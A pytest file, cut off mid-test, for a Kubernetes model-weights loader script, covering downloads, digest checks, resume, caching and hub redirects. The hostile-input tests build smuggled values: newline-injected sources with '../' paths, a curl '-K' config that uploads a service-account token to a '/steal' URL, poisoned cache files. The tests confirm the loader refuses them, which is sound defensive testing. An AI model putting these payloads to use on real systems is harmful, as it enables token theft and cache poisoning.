"""The loader's shell script, run for real (sh, curl, sha256sum) against a local HTTP server:
download, sha256 match and mismatch, resume, cache reuse, OnChange revalidation, the
termination message it writes, and hostile input (issue 27 items 1-4): a source with
newlines or a leading '-', two loaders racing on one folder, a poisoned cache, a
redirect from https to http.

Every test runs once under the machine's sh with its coreutils and, where busybox is
installed, once under busybox's sh and applets (what curlimages/curl has)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import ssl
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from api import ModelSpec, parse_model
from app.manifests import apply_text
from controller.resources import DEPLOYMENT
from reconcilers.sources.loader import SCRIPT, WeightsVolume, loader_for

from .conftest import eventually
from .dra_cluster import dra_cluster

BODY = b"GGUF" + bytes(range(256)) * 1024  # 256 KiB: more than curl buffers
HOLD = 100_000  # a held response sends this much, and curl writes some of it
SUM = hashlib.sha256(BODY).hexdigest()
EVIL = b"GGUF attacker weights"
EVIL_SUM = hashlib.sha256(EVIL).hexdigest()
CACHE = WeightsVolume(claim="model-cache")


class Origin:
    """Serves its files with ETag, If-None-Match and Range; records every request.

    `redirects` answers a path with 302 to a URL; `hold` makes a response send its first
    `hold` bytes and wait for `release`; `barrier` makes each response wait until that
    many requests are being answered at once."""

    def __init__(self) -> None:
        self.files = {"/model.gguf": BODY, "/b.bin": b"second file"}
        self.redirects: dict[str, str] = {}
        self.linked: dict[str, str] = {}  # a redirect's X-Linked-Etag, as the hub sends
        self.etag = '"v1"'
        self.gets: list[tuple[str, str | None]] = []  # (path, Range)
        self.auth: list[tuple[str, str | None]] = []  # (path, Authorization)
        self.puts: list[tuple[str, bytes]] = []
        self.cut: int | None = None  # stop a response after this many bytes
        self.hold: int | None = None
        self.release = threading.Event()
        self.barrier: threading.Barrier | None = None

    def handler(self) -> type[BaseHTTPRequestHandler]:
        origin = self

        class H(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_PUT(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                origin.puts.append((self.path, self.rfile.read(length)))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_PUT

            def do_GET(self) -> None:
                origin.gets.append((self.path, self.headers.get("Range")))
                origin.auth.append((self.path, self.headers.get("Authorization")))
                if self.path in origin.redirects:
                    self.send_response(302)
                    self.send_header("Location", origin.redirects[self.path])
                    if self.path in origin.linked:
                        self.send_header("X-Linked-Etag", origin.linked[self.path])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                body = origin.files.get(self.path)
                if body is None:
                    self.send_error(404)
                    return
                if self.headers.get("If-None-Match") == origin.etag:
                    self.send_response(304)
                    self.send_header("ETag", origin.etag)
                    self.end_headers()
                    return
                start = 0
                rng = self.headers.get("Range")
                if rng and rng.startswith("bytes="):
                    start = int(rng[6:].split("-")[0])
                    self.send_response(206)
                    self.send_header("Content-Range", f"bytes {start}-{len(body) - 1}/{len(body)}")
                else:
                    self.send_response(200)
                part = body[start:]
                self.send_header("ETag", origin.etag)
                self.send_header("Content-Length", str(len(part)))
                self.end_headers()
                if origin.barrier is not None:
                    origin.barrier.wait()
                if origin.hold is not None:
                    self.wfile.write(part[: origin.hold])
                    self.wfile.flush()
                    origin.release.wait(60)
                    self.close_connection = True
                    return
                if origin.cut is not None:
                    self.wfile.write(part[: origin.cut])
                    origin.cut = None
                    self.close_connection = True
                    return
                self.wfile.write(part)

        return H


def _serve(o: Origin, context: ssl.SSLContext | None = None) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), o.handler())
    if context:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"{'https' if context else 'http'}://127.0.0.1:{server.server_address[1]}"
    o.release.set()
    server.shutdown()
    server.server_close()


@pytest.fixture
def origin() -> Iterator[tuple[Origin, str]]:
    o = Origin()
    for url in _serve(o):
        yield o, url


def _busybox_bin(tmp: Path) -> str:
    """A PATH of busybox applets with the real curl: what curlimages/curl runs."""
    busybox, curl = shutil.which("busybox"), shutil.which("curl")
    if not busybox or not curl:
        pytest.skip("busybox is not installed")
    bin_dir = tmp / "busybox-bin"
    bin_dir.mkdir()
    applets = subprocess.run([busybox, "--list"], capture_output=True, text=True, check=True)
    for name in applets.stdout.split():
        (bin_dir / name).symlink_to(busybox)
    (bin_dir / "curl").symlink_to(curl)
    return str(bin_dir)


@pytest.fixture(params=["sh", "busybox"])
def shell(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The PATH the loader runs with."""
    if request.param == "busybox":
        return _busybox_bin(tmp_path_factory.mktemp("bin"))
    return "/usr/bin:/bin"


Result = tuple[int, dict[str, Any], str]


def _env(tmp: Path, given: dict[str, str], shell: str, pod: str) -> dict[str, str]:
    log = tmp / f"termination-log-{pod}"
    log.unlink(missing_ok=True)
    env = {
        "PATH": shell,
        "LOADER_TERMINATION_LOG": str(log),
        "LOADER_POD_UID": pod,
        **given,
    }
    # The pod's /models is tmp/models here.
    for key in ("LOADER_DIR", "LOADER_PATH"):
        if env.get(key, "").startswith("/models"):
            env[key] = str(tmp) + env[key]
    return env


def _result(tmp: Path, pod: str, p: subprocess.CompletedProcess[str] | Any, out: str) -> Result:
    log = tmp / f"termination-log-{pod}"
    message = json.loads(log.read_text()) if log.exists() else {}
    return p.returncode, message, out


def model_env(model: ModelSpec, store: WeightsVolume = CACHE) -> dict[str, str]:
    """The loader's env as the controller builds it (its value entries)."""
    loading = loader_for(model, store, runtime="llamacpp")
    assert loading is not None
    return {e["name"]: e["value"] for e in loading.container["env"] if "value" in e}


def run(
    tmp: Path, given: dict[str, str], shell: str = "/usr/bin:/bin", pod: str = "pod-a"
) -> Result:
    env = _env(tmp, given, shell, pod)
    p = subprocess.run(["sh", "-c", SCRIPT], env=env, capture_output=True, text=True, timeout=60)
    return _result(tmp, pod, p, p.stdout + p.stderr)


def start(tmp: Path, given: dict[str, str], shell: str, pod: str) -> subprocess.Popen[str]:
    """A loader in its own process group (a test may kill it as the kubelet would)."""
    return subprocess.Popen(
        ["sh", "-c", SCRIPT],
        env=_env(tmp, given, shell, pod),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )


def plain(entries: list[tuple[str, str]], **env: str) -> dict[str, str]:
    """The env for (URL, file) entries into /models/key1."""
    given = {
        "LOADER_DIR": "/models/key1",
        "LOADER_PATH": "/models/key1/" + entries[0][1],
        "LOADER_CACHE_KEY": "key1",
        "LOADER_COUNT": str(len(entries)),
        **env,
    }
    for i, (url, rel) in enumerate(entries):
        given[f"LOADER_URL_{i}"] = url
        given[f"LOADER_FILE_{i}"] = rel
    return given


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def until(check: Callable[[], bool], what: str) -> None:
    """Wait for a state (never a verdict by itself: it fails only if the state never comes)."""
    deadline = time.monotonic() + 30
    while not check():
        assert time.monotonic() < deadline, f"never: {what}"
        time.sleep(0.02)


def kill_midway(tmp: Path, o: Origin, given: dict[str, str], shell: str, folder: Path) -> None:
    """Start pod-a's loader and kill it (as the kubelet would) with part of the file on disk."""
    o.hold = HOLD
    loader = start(tmp, given, shell, "pod-a")
    until(
        lambda: any(b for n, b in files_under(folder).items() if n.endswith(".part")),
        "part of the file on disk",
    )
    os.killpg(loader.pid, signal.SIGKILL)
    loader.wait()
    o.hold = None
    o.release.set()


# -- what the loader does -------------------------------------------------------------


def test_download_verifies_sha256_and_reports(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    given = plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM)
    rc, msg, out = run(tmp_path, given, shell)
    assert rc == 0, out
    assert msg == {
        "cacheKey": "key1",
        "path": f"{tmp_path}/models/key1/model.gguf",
        "size": str(len(BODY)),
        "sha256": SUM,
        "stagedFiles": ["model.gguf"],
        "downloaded": ["model.gguf"],
        "sourceETag": '"v1"',
        "files": [{"name": "model.gguf", "size": len(BODY), "sha256": SUM, "digestSource": "spec"}],
        "filesOmitted": 0,
    }
    folder = tmp_path / "models/key1"
    assert (folder / "model.gguf").read_bytes() == BODY
    # Only the file and the loader's hidden sidecars are left: no part.
    assert sorted(files_under(folder)) == [".model.gguf.etag", ".model.gguf.sha256", "model.gguf"]
    # A second replica (or a restart) reuses the cached file: no request at all.
    o.gets.clear()
    rc, msg, out = run(tmp_path, given, shell, pod="pod-b")
    assert rc == 0, out
    assert o.gets == []
    assert msg["downloaded"] == [] and msg["sha256"] == SUM and msg["stagedFiles"] == ["model.gguf"]


def test_sha256_mismatch_fails_and_leaves_no_file(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    wrong = "0" * 64
    rc, msg, out = run(
        tmp_path, plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=wrong), shell
    )
    assert rc == 1, out
    assert msg == {
        "cacheKey": "key1",
        "error": "Sha256Mismatch",
        "file": "model.gguf",
        "expected": wrong,
        "actual": SUM,
        "expectedFrom": "spec",
    }
    assert files_under(tmp_path / "models/key1") == {}


def test_cached_file_with_another_digest_is_not_used(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    entries = [(f"{url}/model.gguf", "model.gguf")]
    assert run(tmp_path, plain(entries), shell)[0] == 0
    rc, msg, _ = run(tmp_path, plain(entries, LOADER_SHA256_0="1" * 64), shell)
    assert rc == 1 and msg["error"] == "Sha256Mismatch" and msg["actual"] == SUM
    # The copy in the cache stays (it is what the source serves); this Model does not use it.
    assert (tmp_path / "models/key1/model.gguf").read_bytes() == BODY


def test_a_part_left_by_a_killed_loader_is_resumed(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    given = plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM)
    folder = tmp_path / "models/key1"
    kill_midway(tmp_path, o, given, shell, folder)
    (written,) = (len(b) for n, b in files_under(folder).items() if n.endswith(".part"))
    o.gets.clear()
    rc, msg, out = run(tmp_path, given, shell, pod="pod-a")  # the restarted init container
    assert rc == 0, out
    assert o.gets == [("/model.gguf", f"bytes={written}-")]
    assert (folder / "model.gguf").read_bytes() == BODY
    assert msg["sha256"] == SUM


def test_a_cut_transfer_is_fetched_again(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    o.cut = 1000
    rc, msg, out = run(
        tmp_path, plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM), shell
    )
    assert rc == 0, out
    assert len(o.gets) == 2 and msg["sha256"] == SUM


def test_several_files_and_download_failure(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    entries = [(f"{url}/model.gguf", "model.gguf"), (f"{url}/b.bin", "sub/b.bin")]
    rc, msg, out = run(tmp_path, plain(entries), shell)
    assert rc == 0, out
    assert msg["stagedFiles"] == ["model.gguf", "sub/b.bin"]
    assert (tmp_path / "models/key1/sub/b.bin").read_bytes() == b"second file"
    rc, msg, _ = run(tmp_path, plain([*entries, (f"{url}/missing.bin", "missing.bin")]), shell)
    assert rc == 1 and msg["error"] == "DownloadFailed" and msg["file"] == "missing.bin"


def test_on_change_revalidates_with_the_etag(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    entries = [(f"{url}/model.gguf", "model.gguf")]
    assert run(tmp_path, plain(entries, LOADER_REFRESH="OnChange"), shell)[0] == 0
    o.gets.clear()
    rc, msg, out = run(tmp_path, plain(entries, LOADER_REFRESH="OnChange"), shell)
    assert rc == 0, out
    assert len(o.gets) == 1 and msg["downloaded"] == []  # 304: kept
    # The source changes: a new ETag, a new body, downloaded and reported.
    o.files["/model.gguf"] = b"new weights"
    o.etag = '"v2"'
    rc, msg, out = run(tmp_path, plain(entries, LOADER_REFRESH="OnChange"), shell)
    assert rc == 0, out
    assert msg["downloaded"] == ["model.gguf"] and msg["sourceETag"] == '"v2"'
    assert msg["sha256"] == hashlib.sha256(b"new weights").hexdigest()
    assert (tmp_path / "models/key1/model.gguf").read_bytes() == b"new weights"
    # IfNotPresent never asks again.
    o.gets.clear()
    assert run(tmp_path, plain(entries), shell)[0] == 0 and o.gets == []


def test_a_stale_part_is_removed_a_live_one_is_not(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    folder = tmp_path / "models/key1"
    folder.mkdir(parents=True)
    stale, live = folder / ".model.gguf.gone-pod.part", folder / ".model.gguf.other-pod.part"
    stale.write_bytes(b"x")
    live.write_bytes(b"y")
    day_ago = time.time() - 2 * 86400
    os.utime(stale, (day_ago, day_ago))
    assert run(tmp_path, plain([(f"{url}/model.gguf", "model.gguf")]), shell)[0] == 0
    assert not stale.exists() and live.exists()


# -- hostile input (issue 27) ---------------------------------------------------------


def test_1_a_newline_in_a_source_writes_nothing_into_another_models_folder(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """`source: "https://a/x\\nhttps://evil/f ../<victimKey>/victim.gguf\\n..."` (stored
    before the pattern was anchored) stages the attacker's file and sidecar into the
    victim's cache folder before the victim's first pod: the victim then logs `cached` and
    serves them. The loader takes one URL and one target per file, so the newline stays
    inside one URL, curl refuses it, and nothing is written outside the folder."""
    o, url = origin
    victim = ModelSpec(source=f"{url}/model.gguf", sha256=SUM)
    vkey = victim.cache_key
    o.files["/evil.gguf"] = EVIL
    o.files["/evil.sum"] = f"{SUM}\n".encode()  # the sidecar the victim would trust
    hostile = ModelSpec(
        source=f"{url}/x\n{url}/evil.gguf ../{vkey}/model.gguf\n"
        f"{url}/evil.sum ../{vkey}/.model.gguf.sha256\n{url}/b.bin"
    )
    run(tmp_path, model_env(hostile), shell)
    assert not (tmp_path / "models" / vkey).exists()
    assert ("/evil.gguf", None) not in o.gets
    rc, msg, out = run(tmp_path, model_env(victim), shell)
    assert rc == 0, out
    assert (tmp_path / "models" / vkey / "model.gguf").read_bytes() == BODY
    assert msg["sha256"] == SUM and msg["downloaded"] == ["model.gguf"]


def test_2_a_source_line_starting_with_a_dash_is_never_a_curl_option(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """A line `-K<file>` made curl read the attacker's config, which uploads a local file
    (the service-account token) to the attacker."""
    o, url = origin
    token = tmp_path / "token"
    token.write_text("service-account-token")
    config = tmp_path / "evil.cfg"
    config.write_text(f'url = "{url}/steal"\nupload-file = "{token}"\n')
    hostile = ModelSpec(source=f"{url}/x\n-K{config} y.gguf\n{url}/b.bin")
    rc, _, _ = run(tmp_path, model_env(hostile), shell)
    assert o.puts == []
    assert rc == 1
    # The script itself: a URL value is one http(s) URL, given to curl's --url.
    rc, msg, _ = run(tmp_path, plain([(f"-K{config}", "model.gguf")]), shell)
    assert rc == 1 and msg["error"] == "BadSource" and o.puts == []


def test_3_two_loaders_racing_on_one_folder_stage_one_whole_file(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """A replica restarted after a kill and a second replica (or a prefetch Job) download
    the same cacheKey at once. They shared one `.part` appended with `curl -C -`: both
    appended the rest of the file and a corrupt, oversized file was renamed into place.
    Each loader now writes its own part; the first complete one is linked into place."""
    o, url = origin
    model = ModelSpec(source=f"{url}/model.gguf")
    given = model_env(model)
    folder = tmp_path / "models" / model.cache_key
    kill_midway(tmp_path, o, given, shell, folder)
    # Neither response sends a byte before both requests are being answered.
    o.barrier = threading.Barrier(2, timeout=30)
    loaders = {pod: start(tmp_path, given, shell, pod) for pod in ("pod-a", "pod-b")}
    outcomes = {}
    for pod, p in loaders.items():
        out, _ = p.communicate(timeout=60)
        outcomes[pod] = _result(tmp_path, pod, p, out)
    for pod, (rc, msg, out) in outcomes.items():
        assert rc == 0, f"{pod}: {out}"
        assert msg["sha256"] == SUM and msg["size"] == str(len(BODY)), pod
    assert (folder / "model.gguf").read_bytes() == BODY
    assert (folder / ".model.gguf.sha256").read_text().split()[0] == SUM
    assert [n for n in files_under(folder) if n.endswith(".part")] == []
    # A third replica reuses the file as it is.
    o.gets.clear()
    rc, msg, _ = run(tmp_path, given, shell, pod="pod-c")
    assert rc == 0 and o.gets == [] and msg["sha256"] == SUM


@pytest.mark.parametrize("pinned", [True, False])
def test_3_a_copy_published_while_a_loader_downloads(
    tmp_path: Path, origin: tuple[Origin, str], shell: str, pinned: bool
) -> None:
    """Another loader links its copy into place while this one downloads: this one uses
    it (the first complete copy wins), unless spec.sha256 pins the file and theirs is not
    it: then this one's verified copy replaces it."""
    o, url = origin
    model = ModelSpec(source=f"{url}/model.gguf", sha256=SUM if pinned else None)
    folder = tmp_path / "models" / model.cache_key
    o.hold = HOLD
    loader = start(tmp_path, model_env(model), shell, "pod-a")
    until(
        lambda: any(b for n, b in files_under(folder).items() if n.endswith(".part")),
        "part of the file on disk",
    )
    (folder / "model.gguf").write_bytes(EVIL)  # the other loader's copy
    o.hold = None
    o.release.set()
    out, _ = loader.communicate(timeout=60)
    rc, msg, _ = _result(tmp_path, "pod-a", loader, out)
    assert rc == 0, out
    assert (folder / "model.gguf").read_bytes() == (BODY if pinned else EVIL)
    assert msg["sha256"] == (SUM if pinned else EVIL_SUM)
    assert [n for n in files_under(folder) if n.endswith(".part")] == []


def test_a_volume_without_hard_links_publishes_by_rename(
    tmp_path: Path, origin: tuple[Origin, str]
) -> None:
    _, url = origin
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "ln").write_text("#!/bin/sh\necho 'ln: Operation not permitted' >&2\nexit 1\n")
    (bin_dir / "ln").chmod(0o755)
    given = plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM)
    rc, msg, out = run(tmp_path, given, f"{bin_dir}:/usr/bin:/bin")
    assert rc == 0 and msg["sha256"] == SUM, out
    assert (tmp_path / "models/key1/model.gguf").read_bytes() == BODY
    assert [n for n in files_under(tmp_path / "models") if n.endswith(".part")] == []


def test_4_a_poisoned_cached_file_is_hashed_again_and_replaced_when_sha256_is_set(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """The cached file changed after it was staged (another writer, a bad disk) and its
    sidecar still says the pinned digest: it was used as `cached` without being read."""
    _, url = origin
    model = ModelSpec(source=f"{url}/model.gguf", sha256=SUM)
    assert run(tmp_path, model_env(model), shell)[0] == 0
    folder = tmp_path / "models" / model.cache_key
    (folder / "model.gguf").write_bytes(EVIL)
    (folder / ".model.gguf.sha256").write_text(f"{SUM}\n")
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    assert (folder / "model.gguf").read_bytes() == BODY
    assert msg["sha256"] == SUM and msg["downloaded"] == ["model.gguf"]


def test_4_a_cached_file_without_sha256_reports_its_own_digest(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """Without spec.sha256 the sidecar is a cache of the digest, kept only while it is of
    the very file (its inode, size and mtime): status never reports a digest the file on
    disk does not have."""
    _, url = origin
    model = ModelSpec(source=f"{url}/model.gguf")
    assert run(tmp_path, model_env(model), shell)[0] == 0
    folder = tmp_path / "models" / model.cache_key
    (folder / "model.gguf").write_bytes(EVIL)
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    assert msg["sha256"] == EVIL_SUM and msg["size"] == str(len(EVIL))


def _tls(where: Path) -> tuple[ssl.SSLContext, str]:
    """A server context with a self-signed certificate for 127.0.0.1, and its CA file."""
    openssl = shutil.which("openssl")
    if not openssl:
        pytest.skip("openssl is not installed")
    cert, key = where / "cert.pem", where / "key.pem"
    subprocess.run(
        [
            *(openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"),
            *("-keyout", str(key), "-out", str(cert), "-subj", "/CN=127.0.0.1"),
            *("-addext", "subjectAltName=IP:127.0.0.1"),
        ],
        check=True,
        capture_output=True,
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    return context, str(cert)


@pytest.fixture
def tls_origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Origin, str, str]]:
    """An https origin with a self-signed certificate for 127.0.0.1, and its CA file."""
    context, ca = _tls(tmp_path_factory.mktemp("tls"))
    o = Origin()
    for url in _serve(o, context):
        yield o, url, ca


def test_4_a_redirect_from_https_to_http_is_not_followed(
    tmp_path: Path,
    origin: tuple[Origin, str],
    tls_origin: tuple[Origin, str, str],
    shell: str,
) -> None:
    plain_origin, http_url = origin
    o, https_url, ca = tls_origin
    # https to https is followed (a hub's CDN does this).
    o.redirects["/hop.gguf"] = f"{https_url}/model.gguf"
    hop = ModelSpec(source=f"{https_url}/hop.gguf", sha256=SUM)
    rc, msg, out = run(tmp_path, {**model_env(hop), "CURL_CA_BUNDLE": ca}, shell)
    assert rc == 0 and msg["sha256"] == SUM, out
    # https to http is not: the file would travel in clear, open to anyone on the path.
    o.redirects["/model.gguf"] = f"{http_url}/model.gguf"
    model = ModelSpec(source=f"{https_url}/model.gguf")
    rc, msg, out = run(tmp_path, {**model_env(model), "CURL_CA_BUNDLE": ca}, shell)
    assert rc == 1 and msg["error"] == "DownloadFailed", out
    assert plain_origin.gets == []
    assert not (tmp_path / "models" / model.cache_key / "model.gguf").exists()


@pytest.mark.parametrize(
    "target",
    ["../other/model.gguf", "/etc/passwd", ".model.gguf.sha256", "sub/../../x", "a\nb", "sub/"],
)
def test_a_target_outside_the_folder_or_hidden_is_refused(
    tmp_path: Path, origin: tuple[Origin, str], target: str
) -> None:
    o, url = origin
    rc, msg, _ = run(tmp_path, plain([(f"{url}/model.gguf", target)]))
    assert rc == 1 and msg["error"] == "BadTarget" and msg["file"] == target.replace("\n", "?")
    assert o.gets == []
    assert not (tmp_path / "models").exists() or files_under(tmp_path / "models") == {}


# -- every file verified (issue 34 part 2) ----------------------------------------------

PROJECTOR = b"GGUF projector weights"
SECOND = b"second file"


def _multi_file_model(url: str, **spec: Any) -> ModelSpec:
    return parse_model({"source": url, "files": ["model.gguf", "b.bin"], **spec})


def test_a_pinned_mmproj_that_was_tampered_with_fails_naming_it(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """spec.fileDigests pins the projector: the origin serves other bytes, so the loader
    exits 1 naming mmproj.gguf, and no projector is left at its final name."""
    o, url = origin
    o.files["/mmproj.gguf"] = EVIL
    model = _multi_file_model(
        url,
        mmproj="mmproj.gguf",
        fileDigests=[{"file": "mmproj.gguf", "sha256": hashlib.sha256(PROJECTOR).hexdigest()}],
    )
    rc, msg, out = run(tmp_path, model_env(model), shell)
    assert rc == 1, out
    assert msg["error"] == "Sha256Mismatch" and msg["file"] == "mmproj.gguf", msg
    assert msg["actual"] == EVIL_SUM and msg["expectedFrom"] == "spec"
    assert not (tmp_path / "models" / model.cache_key / "mmproj.gguf").exists()
    # The honest projector is staged, and reported as pinned by the spec.
    o.files["/mmproj.gguf"] = PROJECTOR
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    sources = {f["name"]: f["digestSource"] for f in msg["files"]}
    assert sources == {"model.gguf": "computed", "b.bin": "computed", "mmproj.gguf": "spec"}


def test_a_pinned_second_shard_swapped_in_the_cache_is_downloaded_again(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """A cached second shard with another digest (its sidecar rewritten to match) is
    hashed again, because it is pinned, and replaced by the origin's copy."""
    _, url = origin
    model = _multi_file_model(
        url, fileDigests=[{"file": "b.bin", "sha256": hashlib.sha256(SECOND).hexdigest()}]
    )
    assert run(tmp_path, model_env(model), shell)[0] == 0
    folder = tmp_path / "models" / model.cache_key
    (folder / "b.bin").write_bytes(EVIL)
    (folder / ".b.bin.sha256").write_text(f"{hashlib.sha256(SECOND).hexdigest()}\n")
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    assert (folder / "b.bin").read_bytes() == SECOND
    assert msg["downloaded"] == ["b.bin"]


def _hub(o: Origin, url: str, name: str, body: bytes, linked: str | None) -> str:
    """The hub's resolve URL for name (an https origin: the loader follows redirects to
    https only): a 302 to the CDN with X-Linked-Etag (LFS), or
    without it (a file kept in git)."""
    o.files[f"/cdn/{name}"] = body
    o.redirects[f"/org/repo/resolve/main/{name}"] = f"{url}/cdn/{name}"
    if linked is not None:
        o.linked[f"/org/repo/resolve/main/{name}"] = f'"{linked}"'
    return f"{url}/org/repo/resolve/main/{name}"


def test_a_hub_download_is_checked_against_x_linked_etag_pinned_or_not(
    tmp_path: Path, tls_origin: tuple[Origin, str, str], shell: str
) -> None:
    o, url, ca = tls_origin
    good = _hub(o, url, "model.gguf", BODY, SUM)
    rc, msg, out = run(
        tmp_path, plain([(good, "model.gguf")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell
    )
    assert rc == 0, out
    assert msg["files"][0]["digestSource"] == "hub" and msg["sha256"] == SUM
    # A replica reuses the hub-vouched digest recorded beside the file.
    rc, msg, out = run(
        tmp_path, plain([(good, "model.gguf")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell, "pod-b"
    )
    assert rc == 0 and msg["files"][0]["digestSource"] == "hub", out
    # The CDN hands out other bytes than the hub published: refused, nothing at its name.
    bad = _hub(o, url, "evil.gguf", EVIL, SUM)
    rc, msg, out = run(
        tmp_path, plain([(bad, "evil.gguf")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell
    )
    assert rc == 1, out
    assert msg["error"] == "Sha256Mismatch" and msg["file"] == "evil.gguf"
    assert msg["expected"] == SUM and msg["actual"] == EVIL_SUM and msg["expectedFrom"] == "hub"
    assert not (tmp_path / "models/key1/evil.gguf").exists()


def test_a_hub_file_without_x_linked_etag_is_reported_computed(
    tmp_path: Path, tls_origin: tuple[Origin, str, str], shell: str
) -> None:
    o, url, ca = tls_origin
    config = _hub(o, url, "config.json", b"{}", None)
    rc, msg, out = run(
        tmp_path, plain([(config, "config.json")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell
    )
    assert rc == 0, out
    assert msg["files"] == [
        {
            "name": "config.json",
            "size": 2,
            "sha256": hashlib.sha256(b"{}").hexdigest(),
            "digestSource": "computed",
        }
    ]


def test_x_linked_etag_is_read_only_from_hub_sources(
    tmp_path: Path, tls_origin: tuple[Origin, str, str], shell: str
) -> None:
    """Any other server's X-Linked-Etag means nothing: it neither fails nor vouches."""
    o, url, ca = tls_origin
    other = _hub(o, url, "model.gguf", BODY, "0" * 64)
    rc, msg, out = run(tmp_path, plain([(other, "model.gguf")], CURL_CA_BUNDLE=ca), shell)
    assert rc == 0 and msg["files"][0]["digestSource"] == "computed", out


def test_a_url_with_brackets_is_one_request(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """curl globs `[1-3]` into three URLs unless told --globoff."""
    o, url = origin
    o.files["/g[1-3].gguf"] = BODY
    rc, _, out = run(tmp_path, plain([(f"{url}/g[1-3].gguf", "g.gguf")]), shell)
    assert rc == 0, out
    assert [path for path, _ in o.gets] == ["/g[1-3].gguf"]


def test_the_report_fits_the_termination_message_and_counts_the_rest(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """The kubelet keeps 4096 bytes of a termination message: 80 files with long names
    cannot all be listed, so the loader lists what fits and says how many it left out."""
    o, url = origin
    entries = []
    for n in range(80):
        name = f"shard-{n:03d}-of-080-{'x' * 40}.safetensors"
        o.files[f"/{name}"] = b"%d" % n
        entries.append((f"{url}/{name}", name))
    rc, _, out = run(tmp_path, plain(entries), shell)
    assert rc == 0, out
    raw = (tmp_path / "termination-log-pod-a").read_bytes()
    msg = json.loads(raw)
    assert len(raw) <= 4096
    assert msg["files"] and msg["filesOmitted"] == 80 - len(msg["files"]) > 0
    assert len(msg["stagedFiles"]) + msg.get("stagedOmitted", 0) == 80
    assert len(msg["downloaded"]) + msg.get("downloadedOmitted", 0) == 80
    # What it lists is what it staged, in order.
    assert [f["name"] for f in msg["files"]] == [name for _, name in entries][: len(msg["files"])]


# -- --hf-endpoint: a local https hub, the controller's own loader --------------------


def _pod_env(container: dict[str, Any], secrets: dict[tuple[str, str], str]) -> dict[str, str]:
    """The env the kubelet gives the container: values, and secretKeyRefs from `secrets`."""
    env = {}
    for e in container["env"]:
        if "value" in e:
            env[e["name"]] = e["value"]
        ref = (e.get("valueFrom") or {}).get("secretKeyRef")
        if ref and (ref["name"], ref["key"]) in secrets:
            env[e["name"]] = secrets[ref["name"], ref["key"]]
    return env


@pytest.mark.server
async def test_a_hub_download_from_the_configured_endpoint_is_checked_and_keeps_the_token(
    tmp_path: Path,
) -> None:
    """The controller runs with --hf-endpoint at a local https hub (a stand-in for
    huggingface.co: it answers `resolve` with a 302 to its CDN and X-Linked-Etag, as the
    hub does for LFS files). The loader the controller puts in the pod downloads from
    it, sends HF_TOKEN to it alone (not to the CDN, another host), checks the file
    against the hub's digest, and refuses a CDN that serves other bytes."""
    context, ca = _tls(tmp_path)
    hub, cdn = Origin(), Origin()
    for hub_url in _serve(hub, context):
        for cdn_url in _serve(cdn, context):
            hub.redirects["/org/repo/resolve/main/m.gguf"] = f"{cdn_url}/lfs/m.gguf"
            hub.linked["/org/repo/resolve/main/m.gguf"] = f'"{SUM}"'
            cdn.files["/lfs/m.gguf"] = BODY
            async with dra_cluster(gpus=0, plugin=0, hf_endpoint=hub_url) as (kube, _, _s):
                await apply_text(
                    kube,
                    """
apiVersion: inference.llmkube.dev/v1alpha1
kind: Model
metadata: {name: m}
spec:
